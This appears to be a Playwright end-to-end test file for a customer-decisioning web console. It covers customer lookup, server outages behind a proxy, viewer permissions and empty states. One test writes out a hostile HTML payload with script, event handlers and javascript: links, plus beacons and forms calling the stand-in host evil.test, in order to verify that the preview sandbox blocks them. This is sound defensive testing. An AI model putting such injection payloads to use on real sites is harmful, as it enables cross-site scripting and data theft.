// Runs in one of 3 turns: axe and keyboard visit every screen, and its parts have tests of their own.

// The reading part of journey 13 of docs/design/console.md 6: a service desk reads a customer. The server is behind a
// proxy at /arbiter/, which first removes that path and later keeps it. The server restarts under the open page. A
// viewer, who can't change anything, reads it.
import assert from 'node:assert/strict';
import { EventEmitter, once } from 'node:events';
import { after, before, test } from 'node:test';
import type { Locator, Page } from 'playwright-core';
import { cannotBrowse, holdEachJourney, openStage, type Stage } from './browser.ts';
import { mailedToken } from './mail.ts';
import { readCustomer } from './walks.ts';

let stage: Stage;
let page: Page;
const skip = cannotBrowse === false ? {} : { skip: cannotBrowse };
/** Long, because the machine may be busy. Every wait ends as soon as its condition holds. */
const timeout = 60_000;
const customer = 'CM-000031';

before(async () => {
  if (cannotBrowse !== false) return;
  stage = await openStage({ prefix: '/arbiter' });
  page = await stage.open();
  page.setDefaultTimeout(timeout);
});
holdEachJourney(() => stage);
after(() => stage?.close());

const heading = (name: string, on = page) => on.getByRole('heading', { level: 1, name }).waitFor();

test('finds a customer by ID: next best offers, history, limits', skip, async () => {
  await page.goto(stage.firstRun);
  await readCustomer(stage, page, 'email', customer);
});

test('shows hostile HTML of a creative without running it', skip, async () => {
  const { data } = await stage.call('GET', 'creatives?limit=1');
  const [{ id, content }] = data as readonly [{ readonly id: string; readonly content: object }];
  // Everything that could run, call, leave or take over, in forms that only a content security policy stops.
  const marks = ['script', 'onerror', 'svg'].map((name) => `parent.postMessage({stolen:'${name}'},'*')`);
  const hostile = `<!doctype html><head><base href="https://evil.test/"><meta http-equiv="refresh" content="0;url=https://evil.test/refresh">
    <link rel="stylesheet" href="https://evil.test/a.css"><style>@import url(https://evil.test/b.css); p { color: rgb(1, 2, 3); background: url(https://evil.test/c.png) }</style></head>
    <body><p id="words">Happy birthday</p><script>${marks[0]}</script><img src="https://evil.test/beacon.gif" alt="beacon" onerror="${marks[1]}">
    <svg onload="${marks[2]}"><script>${marks[0]}</script><use href="https://evil.test/d.svg#a"></use></svg>
    <a href="https://evil.test/away" target="_top">Redeem</a><a href="javascript:${marks[0]}">Again</a>
    <form action="https://evil.test/form" target="_top"><input name="body" autofocus><button>Send</button></form>
    <iframe src="https://evil.test/frame"></iframe><object data="https://evil.test/object"></object></body>`;
  await stage.call('PUT', 'creatives', { id, content: { ...content, body: hostile } });
  const messages: string[] = [];
  const reports = new EventEmitter();
  await page.exposeFunction('noteMessage', (text: string) => {
    messages.push(text);
    if (JSON.parse(text).height !== undefined) reports.emit('height');
  });
  await page.addInitScript("addEventListener('message', ({ data }) => noteMessage(JSON.stringify(data)))");
  // A frame without an origin moves to a process of its own while it loads; a locator that looks into it then fails.
  const frameLoaded = once(reports, 'height', { signal: AbortSignal.timeout(timeout) });
  await page.goto(`${stage.url}/creatives/${id}`);
  await frameLoaded;
  const shown = page.frameLocator('iframe[title="Preview of body"]');
  await shown.getByText('Happy birthday').waitFor();
  assert.equal(await shown.locator('p').evaluate((element) => getComputedStyle(element).color), 'rgb(1, 2, 3)');
  // A link shows its target but doesn't open it; a form's button sends nothing.
  assert.equal(await shown.getByText('Redeem').getAttribute('title'), 'https://evil.test/away');
  for (const press of ['Redeem', 'Again', 'Send']) await shown.getByText(press).click();
  await shown.getByText('beacon', { exact: true }).waitFor();
  assert.equal(
    await shown
      .locator('body')
      .locator('script, iframe, object, form, base, meta, link, [onerror], [href], [src]')
      .count(),
    0,
  );
  await shown.getByText('Happy birthday').waitFor();
  assert.deepEqual(
    messages.filter((text) => JSON.parse(text).stolen !== undefined),
    [],
  );
  // The frame has no origin: it can reach neither the session nor the page.
  const frame = page.frames().find((each) => each.url().includes('preview-frame.html'));
  assert.ok(frame);
  const reach = await frame.evaluate(() => {
    const tried = (read: () => string): string => {
      try {
        return read();
      } catch (error) {
        return error instanceof Error ? error.name : String(error);
      }
    };
    return [globalThis.origin, tried(() => document.cookie), tried(() => String(parent.document))];
  });
  assert.deepEqual(reach, ['null', 'SecurityError', 'SecurityError']);
  await page.getByRole('radio', { name: 'Source' }).click();
  await page.getByText('https://evil.test/beacon.gif').waitFor();
});

test("reports an unavailable server, and continues when it's back", skip, async () => {
  await page.goto(`${stage.url}/decisions`);
  await page
    .getByRole('row', { name: new RegExp(customer) })
    .first()
    .waitFor();
  assert.ok(stage.proxy);
  await stage.stop();
  // Further calls get the proxy's page; the shown data stays.
  await page.getByRole('button', { name: 'Live', exact: true }).click();
  await page.getByText('The server is unavailable.', { exact: false }).first().waitFor();
  await page
    .getByRole('row', { name: new RegExp(customer) })
    .first()
    .waitFor();
  // And no response when the proxy is down, too.
  stage.proxy.mode = 'silent';
  const away = page.getByText("Can't reach the server.", { exact: false }).first();
  await away.waitFor();
  await page
    .getByRole('row', { name: new RegExp(customer) })
    .first()
    .waitFor();
  // A page whose code isn't loaded yet can't open, and doesn't claim to know why.
  await page.getByRole('link', { name: 'Contact policies', exact: true }).click();
  await heading("This page didn't load");
  await stage.start();
  // From here on, the proxy keeps the path.
  stage.proxy.mode = 'keeps';
  await page.getByRole('button', { name: 'Reload', exact: true }).click();
  // Session and data are the same.
  await heading('Contact policies');
  assert.equal(await away.count(), 0);
  await page.getByRole('link', { name: 'Decisions', exact: true }).click();
  await page
    .getByRole('row', { name: new RegExp(customer) })
    .first()
    .waitFor();
  // A deep link and its reload work there, too.
  await page.goto(`${stage.url}/customers/${customer}?tab=limits`);
  await page.getByRole('region', { name: 'Suppressions' }).getByText('complained on the phone').waitFor();
  await page.reload();
  await heading(customer);
});

test("shows viewers everything, and the roles for what they can't do", skip, async () => {
  const { recommendationId } = await stage.call('POST', 'recommend', { customerId: 'CM-000035', channel: 'web' });
  const desk = await stage.open();
  desk.setDefaultTimeout(timeout);
  await stage.call('POST', 'users', { email: 'desk@example.test', role: 'viewer' });
  const token = await mailedToken(stage, 'desk@example.test', 'accept-invite');
  const answer = await desk.request.post(`${stage.url}/api/v1/auth/accept-invite`, {
    headers: { 'x-requested-with': 'journey' },
    data: { token, name: 'Desk', password: 'Passw0rd-of-desk' },
  });
  assert.equal(answer.status(), 200, await answer.text());
  await desk.goto(`${stage.url}/customers/${customer}`);
  await heading(customer, desk);
  await desk.getByText(/June · .*Lyon · .*green/).waitFor();
  await desk.getByText('Suppressed: every offer').waitFor();
  await desk.goto(`${stage.url}/decisions/${String(recommendationId)}?tab=inputs`);
  await disabledBecause(desk.getByRole('button', { name: 'Show inputs', exact: true }), /editor/);
  await desk.goto(`${stage.url}/settings`);
  await desk.getByText('Only admins can change settings. You can view them.').waitFor();
  const traces = desk.getByRole('checkbox', { name: 'Store decision traces' });
  await disabledBecause(traces, /admin/);
  const before = await traces.isChecked();
  await traces.press('Space');
  assert.equal(await traces.isChecked(), before, 'it stays as it is');
  await desk.goto(`${stage.url}/settings/api-keys`);
  await desk.getByText('Only admins can manage API keys.').waitFor();
  // An unreadable page says so. It keeps its place in the sidebar, because others of its group can be read.
  await desk.goto(`${stage.url}/audit`);
  await heading('Audit log', desk);
  await desk.getByText('You need the admin role to open this page; yours is viewer.', { exact: false }).waitFor();
  const rail = desk.getByRole('navigation', { name: 'Navigation' });
  await rail.getByRole('link', { name: 'Health' }).waitFor();
  await rail.getByRole('link', { name: 'Approvals' }).waitFor();
  await rail.getByRole('link', { name: 'Audit log' }).waitFor();
});

/** A disabled control stays reachable by keyboard, and says why it's disabled. */
async function disabledBecause(control: Locator, reason: RegExp): Promise<void> {
  await control.waitFor();
  assert.equal(await control.getAttribute('aria-disabled'), 'true');
  const ids = (await control.getAttribute('aria-describedby'))?.split(' ') ?? [];
  const words = await Promise.all(ids.map((id) => control.page().locator(`[id="${id}"]`).textContent()));
  assert.match(words.join(' '), reason);
  await control.focus();
  assert.equal(await control.evaluate((element) => element === document.activeElement), true);
}

test('names the first step on every list of an empty tenant', skip, async () => {
  await stage.call('DELETE', 'seed-dataset/coffee_rewards', undefined, { 'x-confirm-delete': 'coffee_rewards' });
  await page.goto(stage.url);
  await page.getByRole('button', { name: 'Load Coffee rewards' }).waitFor();
  await page.getByRole('link', { name: 'Qualification rules', exact: true }).click();
  await heading('Qualification rules');
  await page.getByRole('heading', { level: 2 }).first().waitFor();
  await page.getByRole('link', { name: 'Customers', exact: true }).click();
  await page.getByText('No customer data yet').waitFor();
});
